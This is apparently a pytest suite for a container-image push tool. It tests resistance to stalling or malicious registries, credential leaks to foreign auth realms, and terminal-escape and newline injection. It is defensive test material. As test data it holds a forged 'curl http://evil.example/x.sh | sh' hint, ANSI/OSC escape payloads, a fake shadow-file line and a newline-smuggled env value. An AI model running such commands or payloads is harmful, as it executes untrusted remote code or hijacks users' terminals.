"""Hostile and broken servers, hostile inputs: what issue 11 found, one test per item.

The server-side items run against real sockets on 127.0.0.1 (:class:`Loopback`, a raw TCP
server whose behaviour per connection is a plain function), because what they prove is about
bytes on a wire: a response that drips, a status line that never ends, a realm on another
port. The input-side items go through the same functions the CLI calls.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import socket
import ssl
import subprocess
import threading
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from pathlib import Path

import pytest

from scratchpack import cli, pipeline
from scratchpack.cli import render_error
from scratchpack.config import parse_pyproject
from scratchpack.errors import AuthError, ImageError, RegistryError
from scratchpack.freeze.spec import FrozenApp
from scratchpack.oci._http import StdlibTransport, TransportError
from scratchpack.oci.auth import ConfigFileKeychain, Credentials
from scratchpack.oci.reference import Reference
from scratchpack.oci.registry import Pusher, PushOptions, push
from scratchpack.oci.session import Session
from tests._fixtures import BASE, write_project
from tests.fake_registry import FakeRegistry, Fault
from testsupport.engines import build_static_server
from testsupport.registry_server import StaticKeychain, make_image, make_tls

Serve = Callable[["Loopback", socket.socket], None]


class Loopback:
    """A TCP server on 127.0.0.1: each connection is handed to ``serve`` on its own thread.

    ``heads`` records every request head read with :meth:`read_head`, for asserting what a
    client sent (an ``Authorization`` header that must never arrive, say).
    """

    def __init__(self, serve: Serve) -> None:
        self.serve = serve
        self.heads: list[bytes] = []
        self._sock = socket.create_server(("127.0.0.1", 0))
        self._sock.settimeout(0.2)
        self.port = int(self._sock.getsockname()[1])
        self.stop = threading.Event()
        self._conns: list[socket.socket] = []
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.port}"

    def _accept(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self._sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self._conns.append(conn)
            threading.Thread(target=self._run, args=(conn,), daemon=True).start()

    def _run(self, conn: socket.socket) -> None:
        with conn, contextlib.suppress(OSError):
            self.serve(self, conn)

    def read_head(self, conn: socket.socket) -> bytes:
        """One request head; what came first if it is not HTTP (a TLS ClientHello); b'' at EOF."""
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = conn.recv(65536)
            if not chunk:
                return b""
            data += chunk
            if not data[:1].isalpha():  # TLS: answer at once, in plain HTTP
                return data
        head = data.partition(b"\r\n\r\n")[0]
        self.heads.append(head)
        return head

    def close(self) -> None:
        self.stop.set()
        self._sock.close()
        for conn in self._conns:
            with contextlib.suppress(OSError):
                conn.shutdown(socket.SHUT_RDWR)
        self._thread.join(5)


@pytest.fixture
def loopback() -> Iterator[Callable[[Serve], Loopback]]:
    servers: list[Loopback] = []

    def start(serve: Serve) -> Loopback:
        servers.append(Loopback(serve))
        return servers[-1]

    yield start
    for server in servers:
        server.close()


def _answer(
    status: str, body: bytes = b"", headers: Sequence[tuple[str, str]] = (), close: bool = False
) -> bytes:
    lines = [f"HTTP/1.1 {status}", f"Content-Length: {len(body)}"]
    lines += [f"{k}: {v}" for k, v in headers]
    if close:
        lines.append("Connection: close")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body


def _http(answer: Callable[[bytes], bytes]) -> Serve:
    """A keep-alive HTTP server: ``answer(head)`` -> response bytes (bodiless requests only).

    A TLS ClientHello gets a plain-HTTP answer, which is how an insecure client learns to fall
    back to http://.
    """

    def serve(server: Loopback, conn: socket.socket) -> None:
        while head := server.read_head(conn):
            if not head[:1].isalpha():
                conn.sendall(_answer("400 Bad Request", close=True))
                return
            conn.sendall(answer(head))

    return serve


def _header(head: bytes, name: str) -> str:
    for line in head.decode("latin-1").split("\r\n")[1:]:
        key, _, value = line.partition(":")
        if key.strip().lower() == name.lower():
            return value.strip()
    return ""


NO_CREDS = StaticKeychain.of({})
ALICE = Credentials("alice", "s3cret", source="test")


# --- 9: server text is printed inert -------------------------------------------------------------


def test_item9_registry_error_text_cannot_drive_the_terminal_or_forge_lines(loopback):
    forged = "no\x1b[31m access\r\nhint: run curl http://evil.example/x.sh | sh\u202e"
    body = json.dumps({"errors": [{"code": "DENIED\x1b[2J", "message": forged}]}).encode()

    def serve(server: Loopback, conn: socket.socket) -> None:
        while server.read_head(conn):
            reason = "Bad\x1b]0;pwned\x07 Request"
            conn.sendall(_answer(f"400 {reason}", body, [("Content-Type", "application/json")]))

    server = loopback(serve)
    ref = Reference.parse(f"{server.host}/team/app:v1")
    with pytest.raises(RegistryError) as info:
        push(make_image(seed=9), ref, keychain=NO_CREDS, options=PushOptions(insecure=True))
    shown = f"error: {render_error(info.value)}"
    assert not any(ch in shown for ch in "\x1b\x07\r\u202e"), repr(shown)
    lines = shown.splitlines()
    assert [line for line in lines if line.lstrip().startswith(("error:", "hint:"))] == [
        lines[0],
        lines[1],
    ], "exactly one error: line and one hint: line, the forged one stays inside the first"
    assert "hint: run curl" in lines[0] and "\\x1b[31m" in lines[0]


def test_item9_credential_helper_stderr_is_quoted_inert(tmp_path):
    (tmp_path / "config.json").write_text(json.dumps({"credsStore": "evil"}))

    def runner(
        argv: Sequence[str], stdin: str, env: Mapping[str, str]
    ) -> subprocess.CompletedProcess[str]:
        return subprocess.CompletedProcess(argv, 1, "", "locked\x1b[2K\r\nhint: reinstall\x1b]8;;")

    keychain = ConfigFileKeychain(tmp_path / "config.json", {}, runner)
    with pytest.raises(AuthError) as info:
        keychain.resolve("registry.example")
    shown = f"error: {render_error(info.value)}"
    assert "\x1b" not in shown and "\r" not in shown and len(shown.splitlines()) == 2
    assert "locked" in shown


# --- 7: credentials go to the registry's host:port, or to an HTTPS realm ------------------------


def test_item7_insecure_registry_sends_no_password_to_a_realm_on_another_host(loopback):
    token = json.dumps({"token": "t0k", "expires_in": 300}).encode()
    realm = loopback(_http(lambda head: _answer("200 OK", token)))
    challenge = f'Bearer realm="http://{realm.host}/token",service="reg"'
    registry = loopback(
        _http(lambda head: _answer("401 Unauthorized", b"{}", [("WWW-Authenticate", challenge)]))
    )
    ref = Reference.parse(f"{registry.host}/team/app:v1")
    keychain = StaticKeychain.of({registry.host: ALICE})
    with pytest.raises(AuthError, match="plain HTTP to another host") as info:
        push(make_image(seed=7), ref, keychain=keychain, options=PushOptions(insecure=True))
    assert realm.heads == [], "the realm on another port heard nothing, let alone a password"
    assert "s3cret" not in str(info.value)

    # The same realm on the registry's own host:port is the registry: insecure covers it.
    def own_realm(head: bytes) -> bytes:
        if head.startswith(b"GET /token"):
            return _answer("200 OK", token)
        if _header(head, "Authorization") == "Bearer t0k":
            return _answer("200 OK", b"{}")
        own = f'Bearer realm="http://{same.host}/token",service="reg"'
        return _answer("401 Unauthorized", b"{}", [("WWW-Authenticate", own)])

    same = loopback(_http(own_realm))
    ref = Reference.parse(f"{same.host}/team/app:v1")
    keychain = StaticKeychain.of({same.host: ALICE})
    with Session(ref, keychain=keychain, options=PushOptions(insecure=True)) as session:
        session.connect()
    [token_request] = [h for h in same.heads if h.startswith(b"GET /token")]
    assert _header(token_request, "Authorization").startswith("Basic ")


def test_item7_insecure_skips_tls_verification_for_the_registrys_host_port_only(tmp_path):
    tls = make_tls(tmp_path / "tls")
    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ctx.load_cert_chain(tls.cert, tls.key)

    def serve(server: Loopback, conn: socket.socket) -> None:
        with ctx.wrap_socket(conn, server_side=True) as secure:
            while server.read_head(secure):  # type: ignore[arg-type]
                secure.sendall(_answer("200 OK", b"{}"))

    server = Loopback(serve)
    try:
        url = f"https://{server.host}/v2/"
        with StdlibTransport(insecure_hosts=[("127.0.0.1", server.port)]) as insecure:
            assert insecure.request("GET", url, {}).status == 200
        # Another port on the same address is another host: a realm there is verified.
        other = StdlibTransport(insecure_hosts=[("127.0.0.1", server.port + 1)])
        with other, pytest.raises(TransportError, match="not trusted"):
            other.request("GET", url, {})
    finally:
        server.close()


# --- 2: a push has one deadline; every answer has one too ---------------------------------------


def _tls_refused(server: Loopback, conn: socket.socket) -> bytes:
    """The request head, or b'' after answering a TLS hello in plain HTTP (insecure falls back)."""
    head = server.read_head(conn)
    if head and not head[:1].isalpha():
        conn.sendall(_answer("400 Bad Request", close=True))
        return b""
    return head


def _drip(server: Loopback, conn: socket.socket) -> None:
    """A status line, then a header that never ends: one byte every 0.2 s."""
    if _tls_refused(server, conn):
        conn.sendall(b"HTTP/1.1 200 OK\r\nX-Drip: ")
        while not server.stop.wait(0.2):
            conn.sendall(b"a")


def _endless_continue(server: Loopback, conn: socket.socket) -> None:
    """``100 Continue`` heads, each complete and harmless, forever."""
    if _tls_refused(server, conn):
        while not server.stop.wait(0.05):
            conn.sendall(b"HTTP/1.1 100 Continue\r\n\r\n")


def _tls_drip(server: Loopback, conn: socket.socket) -> None:
    """Answers a TLS hello with the head of a 16 KiB handshake record, then a byte per 0.2 s."""
    server.read_head(conn)
    conn.sendall(b"\x16\x03\x03\x40\x00")
    while not server.stop.wait(0.2):
        conn.sendall(b"\x00")


def _silent(server: Loopback, conn: socket.socket) -> None:
    """Accepts, reads, never says a word (not even to a TLS hello)."""
    server.read_head(conn)
    server.stop.wait()


def _silent_after_the_ping(server: Loopback, conn: socket.socket) -> None:
    while head := _tls_refused(server, conn):
        if not head.startswith(b"GET /v2/ "):
            server.stop.wait()
            return
        conn.sendall(_answer("200 OK", b"{}"))


@pytest.mark.e2e
@pytest.mark.parametrize(
    "serve",
    [_drip, _endless_continue, _tls_drip, _silent, _silent_after_the_ping],
    ids=lambda f: f.__name__,
)
def test_item2_a_stalled_or_dripping_registry_fails_within_the_push_timeout(loopback, serve):
    server = loopback(serve)
    ref = Reference.parse(f"{server.host}/team/app:v1")
    options = PushOptions(insecure=True, push_timeout=1.5)
    outcome: list[BaseException | None] = []

    def run() -> None:
        try:
            push(make_image(seed=2), ref, keychain=NO_CREDS, options=options)
            outcome.append(None)
        except BaseException as err:
            outcome.append(err)

    start = time.monotonic()
    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    worker.join(20)
    elapsed = time.monotonic() - start
    assert outcome, f"the push still hangs after {elapsed:.0f} s"
    err = outcome[0]
    assert isinstance(err, RegistryError), repr(err)
    assert elapsed < 1.5 + 2.0, f"took {elapsed:.1f} s for a 1.5 s push timeout"
    assert "did not finish within 1.5 s" in err.message, err.message
    assert err.remedy == "push-timeout" and "--timeout SECONDS" in render_error(err)


def test_item2_retries_stop_at_the_push_deadline_on_the_injected_clock():
    fake = FakeRegistry(faults=[Fault("HEAD", r"/blobs/", 503, times=100)])
    slept: list[float] = []

    def sleep(seconds: float) -> None:  # the fake clock moves only when the push waits
        slept.append(seconds)
        fake.now += seconds

    ref = Reference.parse("registry.example/team/app:v1")
    options = PushOptions(push_timeout=20.0, backoff=1.0, retries=100)
    session = Session(
        ref, keychain=NO_CREDS, options=options, transport=fake, sleep=sleep, clock=fake.clock
    )
    layer = make_image().layers[0]
    with pytest.raises(RegistryError, match="no time left for attempt") as info:
        Pusher(session).upload_blob(layer.digest, layer.size, layer.opener)
    assert info.value.status == 503
    assert len(slept) >= 3 and sum(slept) < 20.0, "it retried, and never slept past the deadline"
    sent = [c.timeout for c in fake.calls]
    assert all(t is not None and 0 < t <= 20.0 for t in sent)
    assert sent == sorted(sent, reverse=True) and sent[0] > sent[-1], "each gets the time left"


def test_item2_timeout_flag_and_pyproject_setting_reach_the_push(tmp_path, monkeypatch, capsys):
    project = write_project(
        tmp_path, BASE + '[tool.scratchpack]\nentrypoint = "demo:main"\npush-timeout = 42\n'
    )
    seen: list[pipeline.BuildOptions] = []

    def fake_build(options: pipeline.BuildOptions) -> pipeline.BuildResult:
        seen.append(options)
        raise RegistryError("stop here")

    monkeypatch.setattr(pipeline, "build", fake_build)
    argv = ["build", str(project), "--push", "localhost:5000/demo"]
    assert cli.main(argv) == 1 and cli.main([*argv, "--timeout", "7.5"]) == 1
    assert [o.push_options().push_timeout for o in seen] == [42.0, 7.5]
    capsys.readouterr()
    assert cli.main([*argv, "--timeout", "0"]) == 1  # error: + hint:, not a traceback
    err = capsys.readouterr().err
    assert err.startswith("error: a push timeout must be a positive number") and "hint:" in err


# --- 6b: --ca-certs takes PEM certificates and nothing else ---------------------------------------


@pytest.fixture(scope="module")
def static_exe(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_static_server(tmp_path_factory.mktemp("static"))


def _frozen_app(exe: Path) -> FrozenApp:
    digest = hashlib.sha256(exe.read_bytes()).hexdigest()
    project = parse_pyproject(BASE.encode() + b'[tool.scratchpack]\nentrypoint = "demo:main"\n')
    return FrozenApp(exe, digest, exe.stat().st_size, project, (), "3.11.2", cached=False)


def test_item6b_ca_certs_must_be_pem_certificates(tmp_path, static_exe):
    tls = make_tls(tmp_path / "tls")
    secret = tmp_path / "shadow"
    secret.write_text("root:$6$salt$hash:19000:0:99999:7:::\n")
    key_and_cert = tmp_path / "key-and-cert.pem"
    key_and_cert.write_bytes(tls.key.read_bytes() + tls.cert.read_bytes())
    broken = tmp_path / "broken.pem"
    broken.write_text("-----BEGIN CERTIFICATE-----\nbm90IGEgY2VydA==\n-----END CERTIFICATE-----\n")
    commented = tmp_path / "commented.pem"  # certifi's layout: comments between blocks
    commented.write_bytes(b"# Issuer: CN=localhost\n" + tls.cert.read_bytes())

    for bad in (secret, key_and_cert, broken, tmp_path / "missing.pem"):
        with pytest.raises(ImageError) as info:
            pipeline.assemble(
                _frozen_app(static_exe),
                pipeline.ImageOptions(ca_certs=str(bad)),
                project_dir=tmp_path,
                epoch=0,
                workdir=tmp_path / "w",
            )
        shown = render_error(info.value)
        assert str(bad) in shown and "--ca-certs" in shown, shown
    image = pipeline.assemble(
        _frozen_app(static_exe),
        pipeline.ImageOptions(ca_certs=str(commented)),
        project_dir=tmp_path,
        epoch=0,
        workdir=tmp_path / "w",
    )
    assert image.layers[0].size > 0


# --- 10: smaller ones ----------------------------------------------------------------------------


def test_item10a_tags_are_ascii_as_the_distribution_grammar_says(tmp_path):
    for text in ("webhello:café", "webhello:\uff561", "webhello:v\u0661"):  # fullwidth v, Arabic 1
        with pytest.raises(ImageError, match="invalid tag"):
            Reference.parse(text)
    project = write_project(tmp_path, BASE + '[tool.scratchpack]\nentrypoint = "demo:main"\n')
    assert cli.main(["build", str(project), "--tarball", "x.tar", "--tag", "webhello:café"]) == 1
    assert Reference.parse("webhello:v1.2_rc-3").tag == "v1.2_rc-3"


def test_item10b_git_remote_loses_userinfo_query_and_fragment(tmp_path, static_exe):
    project = tmp_path / "proj"
    project.mkdir()
    remote = "https://me:p@ss@git.example/team/app.git?access_token=T0KEN#main"
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    subprocess.run(["git", "-C", str(project), "remote", "add", "origin", remote], check=True)
    image = pipeline.assemble(
        _frozen_app(static_exe),
        pipeline.ImageOptions(),
        project_dir=project,
        epoch=0,
        workdir=tmp_path / "w",
    )
    source = dict(image.annotations)["org.opencontainers.image.source"]
    assert source == "https://git.example/team/app.git"


def test_item10c_a_failing_credential_helper_never_has_its_stdout_quoted(tmp_path):
    (tmp_path / "config.json").write_text(json.dumps({"credsStore": "leaky"}))

    def runner(
        argv: Sequence[str], stdin: str, env: Mapping[str, str]
    ) -> subprocess.CompletedProcess[str]:
        out = '{"ServerURL":"r","Username":"alice","Secret":"hunter2"}\nthen it crashed'
        return subprocess.CompletedProcess(argv, 2, out, "")

    with pytest.raises(AuthError) as info:
        ConfigFileKeychain(tmp_path / "config.json", {}, runner).resolve("registry.example")
    assert "hunter2" not in render_error(info.value) + repr(info.value)
    assert "exited with status 2" in info.value.message


@pytest.mark.parametrize(
    ("flag", "item", "message"),
    [
        ("--env", "BAD NAME=x", "environment variable name 'BAD NAME' is not valid"),
        ("--env", "1X=x", "is not valid"),
        ("--env", "MODE=a\nINJECTED=1", "contains the control character \\n"),
        ("--env", "MODE=a\rb", "contains the control character \\r"),
        ("--label", "team\n=x", "label key 'team\\n'"),
        ("--label", "team=a\nb", "the value of label team contains the control character \\n"),
        ("--label", "team=a\x1b[2Jb", "control character \\x1b"),
    ],
)
def test_item10d_env_and_label_keys_and_values_are_validated(tmp_path, capsys, flag, item, message):
    project = write_project(tmp_path, BASE + '[tool.scratchpack]\nentrypoint = "demo:main"\n')
    tarball = tmp_path / "x.tar"
    assert cli.main(["build", str(project), "--tarball", str(tarball), flag, item]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: ") and message in err and "\n  hint: " in err, err
    assert not tarball.exists()
    assert "a\nINJECTED" not in err, "a value is never quoted back (it may be a secret)"
